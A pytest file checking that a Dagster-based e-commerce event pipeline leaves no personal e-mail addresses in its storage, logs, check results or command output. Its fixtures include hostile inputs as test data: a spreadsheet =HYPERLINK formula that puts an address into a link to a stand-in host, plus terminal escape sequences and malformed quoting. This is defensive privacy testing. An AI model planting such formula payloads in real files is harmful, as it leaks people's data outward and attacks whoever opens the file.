"""P20: what a run leaves of itself (Dagster's storage, logs, results of checks, its output) tells of nobody."""

from __future__ import annotations

import csv
from collections.abc import Callable
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from behavior_assets.privacy.scanner import Find, Needles, scan
from resources.failpoints import armed
from tests.conftest import REES46_HEADER, Result, run_cli
from tests.test_gating import with_rule

# Whatever the scanner finds anywhere, in any spelling: addresses, and a number that is like no other.
PERSONS = tuple(f"visitor.{name}.{n:04d}@example.org" for n, name in enumerate(("ann", "bob", "eve", "kim"), 3141))
MAIL = PERSONS[0]
POISON: dict[str, Callable[[str], str]] = {
    "address": lambda value: f"{value} {MAIL}", "control": lambda value: f"{value}\x01\x1b[31m{MAIL}\x7f",
    "formula": lambda _value: f'=HYPERLINK("http://x.example/{MAIL}")',
    "long": lambda value: value + MAIL + "x" * 5000,
}  # fmt: skip
MAPPING = """
columns: {event_time: at, event_name: what, user_id: user, client_id: client, session_id: visit, product_id: sku,
          price: price, quantity: pieces, transaction_id: order, url: url, search_query: search, ip: ip,
          user_agent: agent, country: country, is_bot: bot}
"""
GENERIC = ("at", "what", "user", "client", "visit", "sku", "price", "pieces", "order", "url", "search", "ip", "agent",
           "country", "bot")  # fmt: skip


def rees46(person: str, minute: int) -> list[str]:
    kind = ("view", "cart", "purchase")[minute % 3]
    return [f"2024-05-30 10:{minute:02d}:00 UTC", kind, f"p{minute % 4}", "20", "toys.bricks", "acme", "9.99", person,
            f"visit-of-{person}"]  # fmt: skip


def generic(person: str, minute: int) -> list[str]:
    kind = ("view_item", "add_to_cart", "purchase")[minute % 3]
    return [f"2024-05-30T10:{minute:02d}:00", kind, person, f"client-of-{person}", f"visit-of-{person}",
            f"p{minute % 4}", "9.99", "1", f"order-of-{person}-{minute}", f"https://x.example/?u={person}", person,
            "10.1.2.3", "Mozilla/5.0", "GB", "no"]  # fmt: skip


def write(path: Path, header: list[str], make: Callable[[str, int], list[str]], *kinds: str) -> Path:
    """Rows of four persons; then, one field after another, each of these kinds of poison in a row of the first."""
    rows = [make(person, minute) for person in PERSONS for minute in range(12)]
    for minute, (column, kind) in enumerate(product(range(len(header)), kinds)):
        row = make(MAIL, minute % 60)
        row[column] = POISON[kind](row[column])
        rows.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)
    return path


def unquote(path: Path, header: list[str], make: Callable[[str, int], list[str]]) -> list[Path]:
    """A file for each field, in which that field opens a quote that nothing closes."""
    files = []
    for column in range(len(header)):
        row = make(MAIL, 0)
        row[column] = f'"{row[column]}{MAIL}'
        files.append(path.with_name(f"{path.stem}-{column}.csv"))
        files[-1].write_text("\n".join([",".join(header), ",".join(row), ",".join(make(MAIL, 1))]) + "\n")
    return files


def left_by(home: Path, *results: Result) -> list[Find]:
    """Where anybody is named below Dagster's folder and the logs, in what GX kept, and in what the command said."""
    told = home / "logs" / "output-of-the-command.txt"
    told.write_text("".join(r.out + r.err for r in results))
    apart = ("lake/", "archive/", "landing/", "exports/", "models/", "keys/", "privacy/")
    return scan(home, Needles(frozenset(PERSONS)), leave=lambda p: f"{p.as_posix()}/".startswith(apart))


def run(home: Path, source: Path, *more: Any) -> Result:
    return run_cli("run", "--home", home, "--source", source, *more)


def test_poison_in_every_field_leaves_nobody(tmp_path: Path) -> None:
    """Of both formats in one home; that the ids are in the lake shows that the scan could have found them."""
    home = tmp_path / "home"
    (tmp_path / "mapping.yaml").write_text(MAPPING)
    header = REES46_HEADER.split(",")
    one = write(tmp_path / "a" / "one.csv", header, rees46, *POISON)
    two = write(tmp_path / "b" / "two.csv", list(GENERIC), generic, *POISON)
    unquote(one, header, rees46)
    unquote(two, list(GENERIC), generic)
    first = run(home, one.parent, "--format", "rees46")
    second = run(home, two.parent, "--format", "generic", "--mapping", tmp_path / "mapping.yaml", "--json")
    assert (first.code, second.code) == (3, 3), "files with an open quote are refused, the other ones taken in"
    listed = run_cli("quarantine", "--home", home)
    status = run_cli("status", "--home", home, "--json")
    assert '"quarantined": 0' not in status.out.split('"tables"')[0]
    assert list((home / "dagster").rglob("*.db")), "Dagster's storage is there to be looked into"
    assert left_by(home, first, second, listed, status) == []
    assert scan(home / "lake", Needles(frozenset(PERSONS)))
    assert scan(home / "lake" / "quarantine", Needles(frozenset({MAIL})))


def test_a_file_that_is_refused_is_told_without_its_rows(tmp_path: Path) -> None:
    home, path = tmp_path / "home", write(tmp_path / "a" / "one.csv", REES46_HEADER.split(","), rees46)
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines[:3], lines[3].replace(MAIL, f'"{MAIL}\n{MAIL}"'), f'"{MAIL}']) + "\n")
    headless = tmp_path / "a" / "two.csv"
    headless.write_text("\n".join(lines[1:]) + "\n")
    result = run(home, tmp_path / "a", "--format", "rees46")
    assert result.code == 3
    assert left_by(home, result) == []


@pytest.mark.parametrize("place", ["parquet.write:eio@3", "lake.commit:eio@4", "export.manifest:enospc"])
def test_a_run_that_fails_leaves_nobody(tmp_path: Path, place: str) -> None:
    """In bronze, in silver, at the publication; the failure itself is told."""
    home, path = tmp_path / "home", write(tmp_path / "a" / "one.csv", REES46_HEADER.split(","), rees46, *POISON)
    with armed(place):
        result = run(home, path, "--format", "rees46")
    assert result.code not in {0, 3}, result.err
    assert left_by(home, result) == []


def test_an_error_that_quotes_its_row_is_told_without_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As engines do: the message of a cast that fails holds the value."""
    def broken(*_arguments: object, **_named: object) -> None:
        msg = f"Could not convert string '{MAIL}' to INT64"
        raise ValueError(msg)

    monkeypatch.setattr("behavior_assets.privacy.assets.build_silver", broken)
    home, path = tmp_path / "home", write(tmp_path / "a" / "one.csv", REES46_HEADER.split(","), rees46)
    result = run(home, path, "--format", "rees46")
    assert result.code not in {0, 3}
    assert left_by(home, result) == []


def test_a_rule_that_stops_the_run_counts_and_quotes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home, path = tmp_path / "home", write(tmp_path / "a" / "one.csv", REES46_HEADER.split(","), rees46, *POISON)
    nobody = {"name": "users_are_numbers", "kind": "holds", "condition": "user_id SIMILAR TO '[0-9]+'"}
    with_rule(monkeypatch, "bronze/events", nobody)
    result = run(home, path, "--format", "rees46", "--json")
    assert result.code == 4, result.err
    assert left_by(home, result) == []
